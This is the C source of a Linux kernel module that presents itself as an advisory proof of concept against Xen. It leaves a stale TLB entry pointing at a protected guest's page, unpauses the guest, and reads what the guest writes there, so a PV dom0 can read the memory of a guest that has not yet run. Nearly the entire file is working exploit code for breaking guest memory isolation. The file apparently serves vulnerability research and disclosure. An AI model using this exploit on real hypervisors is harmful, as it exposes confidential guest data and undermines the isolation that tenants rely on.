/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's memory by a stale TLB entry (PV dom0)
 *
 * Claim: when a protected guest first runs, no TLB has an entry for its
 * memory, not even one whose mapping is gone.
 *
 * Method: a PV dom0's kernel flushes its TLB when it sees fit.  This module
 * maps a page of a guest that has not run yet, touches it, takes the mapping
 * out of the page table, and does not flush.  Whoever counts references finds
 * that nobody maps the page.  Then it has the guest run, interrupts off, so
 * that nothing flushes by the way, and looks through the entry until the guest
 * has written its lines there, or the entry is gone, or time is up.  With
 * elsewhere=1 another processor has it run, and this one looks meanwhile: a
 * saved guest's memory is decrypted before it runs.
 *
 * Stock Xen: the entry lives on, and shows the lines.
 *
 *   insmod staletlb.ko domid=N gfn=M [elsewhere=1]  (the domain is paused, and unpaused)
 *   cat /sys/module/staletlb/parameters/{lines,mapped,ran,faulted}
 */

#include <linux/irqflags.h>
#include <linux/ktime.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/smp.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>
#include <asm/xen/hypercall.h>
#include <asm/xen/page.h>
#include <xen/xen.h>

#include "lines.h"

#define PATIENCE_NS (8 * NSEC_PER_SEC)

/* Xen's public/domctl.h, which kernels do not have. */
#define DOMCTL_VERSION 0x17
#define DOMCTL_UNPAUSE 4
struct domctl {
    u32 cmd, version;
    u16 domain, pad[3];
    u64 argument[16];
};

static int domid;
module_param(domid, int, 0444);
static unsigned long gfn;
module_param(gfn, ulong, 0444);
static bool elsewhere;
module_param(elsewhere, bool, 0444);
static unsigned long lines, mapped, ran, faulted;
module_param(lines, ulong, 0444);
module_param(mapped, ulong, 0444);
module_param(ran, ulong, 0444);
module_param(faulted, ulong, 0444);

static char *window;
static char copy[PAGE_SIZE];
static u64 entry_at;            /* machine address of the page table entry */
static u64 entry;               /* and what it was */

static int open_window(void)
{
    unsigned int level;
    pte_t *pte;

    window = vmalloc(PAGE_SIZE);
    if ( !window )
        return -ENOMEM;
    pte = lookup_address((unsigned long)window, &level);
    if ( !pte || level != PG_LEVEL_4K )
        return -EINVAL;
    entry_at = arbitrary_virt_to_machine(pte).maddr;
    entry = READ_ONCE(pte->pte);
    return 0;
}

static int write_entry(u64 value, domid_t owner)
{
    struct mmu_update update = {
        .ptr = entry_at | MMU_NORMAL_PT_UPDATE, .val = value
    };

    return HYPERVISOR_mmu_update(&update, 1, NULL, owner);
}

static void flush(void)
{
    struct mmuext_op op = { .cmd = MMUEXT_TLB_FLUSH_ALL };

    HYPERVISOR_mmuext_op(&op, 1, NULL, DOMID_SELF);
}

static int unpause(void)
{
    struct domctl op = {
        .cmd = DOMCTL_UNPAUSE, .version = DOMCTL_VERSION, .domain = domid
    };

    return privcmd_call(__HYPERVISOR_domctl, (unsigned long)&op, 0, 0, 0, 0);
}

static void unpause_here(void *unused)
{
    WRITE_ONCE(ran, unpause() ? 2 : 1);
}

static call_single_data_t call = CSD_INIT(unpause_here, NULL);

/* Has it begun? */
static bool begin(void)
{
    if ( elsewhere )
        return !smp_call_function_single_async(!smp_processor_id(), &call);
    ran = !unpause();

    return ran;
}

/* Not a request to Xen among these: memory is read, and time. */
static void look(void)
{
    u64 start = ktime_get_mono_fast_ns();

    while ( !lines && !faulted &&
            ktime_get_mono_fast_ns() - start < PATIENCE_NS )
    {
        faulted = !!copy_from_kernel_nofault(copy, window, PAGE_SIZE);
        if ( !faulted )
            lines = lines_in(copy, PAGE_SIZE);
    }
    while ( !READ_ONCE(ran) &&
            ktime_get_mono_fast_ns() - start < 4 * PATIENCE_NS )
        cpu_relax();
}

/* Interrupts are off. */
static void attack(void)
{
    u64 value = (gfn << PAGE_SHIFT) | _PAGE_PRESENT | _PAGE_ACCESSED;

    flush();
    if ( write_entry(value, domid) )
        return;
    mapped = !copy_from_kernel_nofault(copy, window, PAGE_SIZE);
    if ( write_entry(0, DOMID_SELF) )
        return;
    if ( begin() )
        look();
}

static int __init staletlb_init(void)
{
    unsigned long flags;
    int rc;

    if ( !xen_pv_domain() )
        return -EOPNOTSUPP;
    rc = open_window();
    if ( !rc )
    {
        local_irq_save(flags);
        attack();
        BUG_ON(write_entry(entry, DOMID_SELF));
        flush();
        local_irq_restore(flags);
    }
    vfree(window);
    pr_info("staletlb: lines %lu mapped %lu ran %lu faulted %lu\n", lines,
            mapped, ran, faulted);
    return rc;
}

static void __exit staletlb_exit(void)
{
}

module_init(staletlb_init);
module_exit(staletlb_exit);
MODULE_DESCRIPTION("Read another domain's memory by a stale TLB entry");
MODULE_LICENSE("Dual BSD/GPL");
